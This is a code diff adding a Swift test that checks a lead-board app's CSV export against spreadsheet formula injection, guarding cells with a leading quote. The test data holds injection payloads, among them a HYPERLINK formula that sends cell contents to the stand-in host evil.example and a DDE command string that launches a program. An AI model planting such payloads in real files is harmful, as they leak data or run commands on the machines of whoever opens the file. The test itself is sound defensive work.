@@ -55,6 +55,36 @@ import Testing
         #expect(try exported(campaignBoard, .campaigns) == campaigns)
     }
 
+    /// Text a spreadsheet would run (a formula, a DDE command, a phone number with +) leaves as
+    /// text behind a `'`, and comes back from the import exactly as it was.
+    @Test func formulaCellsLeaveGuardedAndComeBackAsTheyWere() throws {
+        let source = TemporaryBoard()
+        let store = try source.open()
+        let cells = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "'=x", "''@y", "'plain", "-5"]
+        var csv = "name,company,source,campaign,attr.note\n"
+        for (index, cell) in cells.enumerated() { csv += CSVWriter.line(["Lead \(index) " + cell, cell, cell, "", cell]) }
+        // Written as they are (not guarded): a `'` at the start of a cell the file itself holds is data.
+        try csv.write(toFile: source.folder + "/in.csv", atomically: true, encoding: .utf8)
+        _ = try store.importCSV(at: source.folder + "/in.csv", options: ImportOptions(), actor: "lucia", now: now)
+        let stored = try store.connection.prepare("SELECT company FROM leads ORDER BY id").rows([]) { $0.string(0) }
+        #expect(stored == cells.map { FormulaGuard.unguarded($0) })
+
+        var writer = CSVWriter(guardingFormulas: true)
+        try store.export(.leads) { writer.write($0) }
+        let first = String(decoding: writer.bytes, as: UTF8.self)
+        #expect(first.contains(",'=HYPERLINK(\"\"http://evil.example/?\"\"&A1),") || first.contains("\"'=HYPERLINK("))
+        #expect(first.contains("2,Lead 1 +SUM(1),'+SUM(1),,,'+SUM(1),,,lead,"))
+        #expect(!first.split(separator: "\n").dropFirst().contains { line in line.split(separator: ",").contains { ["=", "+", "@"].contains($0.first.map(String.init) ?? "") } })
+        try first.write(toFile: source.folder + "/out.csv", atomically: true, encoding: .utf8)
+        let copy = TemporaryBoard()
+        let target = try copy.open()
+        _ = try target.importCSV(at: source.folder + "/out.csv", options: ImportOptions(), actor: "lucia", now: now)
+        #expect(try target.connection.prepare("SELECT company FROM leads ORDER BY id").rows([]) { $0.string(0) } == stored)
+        var again = CSVWriter(guardingFormulas: true)
+        try target.export(.leads) { again.write($0) }
+        #expect(String(decoding: again.bytes, as: UTF8.self) == first)
+    }
+
     @Test func importingAnExportIntoItsOwnBoardChangesNothing() throws {
         let board = TemporaryBoard()
         let store = try awkwardBoard(board)
